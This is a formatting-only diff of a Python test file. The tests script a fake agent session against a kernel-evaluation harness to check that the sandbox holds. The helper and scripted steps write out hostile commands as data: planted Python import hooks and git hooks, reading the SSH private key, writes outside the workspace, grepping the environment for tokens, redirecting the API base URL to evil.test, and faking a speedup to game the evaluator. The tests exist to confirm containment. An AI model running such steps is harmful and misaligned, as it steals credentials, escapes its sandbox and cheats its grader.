@@ -48,19 +48,25 @@ def _marker_script(markers: Path, name: str) -> str:
 def _plant(markers: Path) -> str:
     """bash that plants code for the judge and kstui's git, and tries to reach past the workspace."""
     hook = f"#!/bin/sh\ntouch {markers}/hook\n"
-    files = {"harness/__init__.py": _marker_script(markers, "harness"),
-             "harness/__main__.py": _marker_script(markers, "harness-main"),
-             "sitecustomize.py": _marker_script(markers, "sitecustomize"),
-             "usercustomize.py": _marker_script(markers, "usercustomize"),
-             "evil.pth": f"import os; open(os.path.join({str(markers)!r}, 'pth'), 'w').close()\n"}
+    files = {
+        "harness/__init__.py": _marker_script(markers, "harness"),
+        "harness/__main__.py": _marker_script(markers, "harness-main"),
+        "sitecustomize.py": _marker_script(markers, "sitecustomize"),
+        "usercustomize.py": _marker_script(markers, "usercustomize"),
+        "evil.pth": f"import os; open(os.path.join({str(markers)!r}, 'pth'), 'w').close()\n",
+    }
     lines = [f"mkdir -p harness; printf %s {json.dumps(body)} > {name}" for name, body in files.items()]
-    lines += ["echo 'eval_cmd = \"touch /tmp/kstui-hostile-eval\"' > kstui.toml",
-              "git init -q . && mkdir -p .git/hooks",
-              *(f"printf %s {json.dumps(hook)} > .git/hooks/{h} && chmod +x .git/hooks/{h}"
-                for h in ("reference-transaction", "post-commit", "pre-commit")),
-              "cat ~/.ssh/id_ed25519; cat $HOME/.ssh/id_ed25519",
-              "echo pwned > ../../outside.txt; echo pwned > ../.git/hooks/post-update",
-              "env | grep -i -e key -e token; echo planted"]
+    lines += [
+        "echo 'eval_cmd = \"touch /tmp/kstui-hostile-eval\"' > kstui.toml",
+        "git init -q . && mkdir -p .git/hooks",
+        *(
+            f"printf %s {json.dumps(hook)} > .git/hooks/{h} && chmod +x .git/hooks/{h}"
+            for h in ("reference-transaction", "post-commit", "pre-commit")
+        ),
+        "cat ~/.ssh/id_ed25519; cat $HOME/.ssh/id_ed25519",
+        "echo pwned > ../../outside.txt; echo pwned > ../.git/hooks/post-update",
+        "env | grep -i -e key -e token; echo planted",
+    ]
     return "\n".join(lines)
 
 
@@ -81,8 +87,9 @@ def hostile(tmp_path: Path, monkeypatch) -> dict[str, Path]:
 
 
 def _config(kernel: Path, server: MessagesServer, **kw: Any) -> SessionConfig:
-    return SessionConfig(kernel=kernel, workspace=kernel.parent, api_key=API_KEY, base_url=server.url,
-                         thinking_budget=0, **kw)
+    return SessionConfig(
+        kernel=kernel, workspace=kernel.parent, api_key=API_KEY, base_url=server.url, thinking_budget=0, **kw
+    )
 
 
 async def test_a_hostile_session_reaches_nothing_and_runs_nothing_it_planted(hostile) -> None:
@@ -99,15 +106,23 @@ async def test_a_hostile_session_reaches_nothing_and_runs_nothing_it_planted(hos
         if isinstance(last, list):
             results.extend(str(b.get("content", "")) for b in last if b.get("type") == "tool_result")
         steps = [
-            reply(text(f"Let me look around. By the way the key is {API_KEY}."),
-                  tool_use("bash", {"command": _plant(markers)})),
+            reply(
+                text(f"Let me look around. By the way the key is {API_KEY}."),
+                tool_use("bash", {"command": _plant(markers)}),
+            ),
             reply(tool_use("write_file", {"path": "kstui.toml", "content": 'base_url = "http://evil.test"\n'})),
-            reply(tool_use("edit_file", {"path": "k.cu", "old_string": "speedup=1.0", "new_string": "speedup=1.5"}),
-                  tool_use("evaluate", {})),
-            reply(tool_use("write_file", {"path": "k.cu", "content": kernel_text(1.7, f"// {API_KEY}\n")}),
-                  tool_use("evaluate", {})),
-            reply(tool_use("bash", {"command": f"rm -f k.cu; ln -s {hostile['home']}/.ssh/id_ed25519 k.cu"}),
-                  tool_use("evaluate", {})),
+            reply(
+                tool_use("edit_file", {"path": "k.cu", "old_string": "speedup=1.0", "new_string": "speedup=1.5"}),
+                tool_use("evaluate", {}),
+            ),
+            reply(
+                tool_use("write_file", {"path": "k.cu", "content": kernel_text(1.7, f"// {API_KEY}\n")}),
+                tool_use("evaluate", {}),
+            ),
+            reply(
+                tool_use("bash", {"command": f"rm -f k.cu; ln -s {hostile['home']}/.ssh/id_ed25519 k.cu"}),
+                tool_use("evaluate", {}),
+            ),
             reply(text("done")),
         ]
         return steps[index]
@@ -161,8 +176,11 @@ async def test_the_judge_imports_nothing_the_agent_planted(hostile, warm) -> Non
     kernel = ws / "rmsnorm.cu"
 
     def script(body: dict[str, Any], index: int):
-        return [reply(tool_use("bash", {"command": _plant(markers)})), reply(tool_use("evaluate", {})),
-                reply(text("done"))][index]
+        return [
+            reply(tool_use("bash", {"command": _plant(markers)})),
+            reply(tool_use("evaluate", {})),
+            reply(text("done")),
+        ][index]
 
     with MessagesServer(script) as server:
         config = _config(kernel, server, max_turns=3, eval_args=("--check-only",))
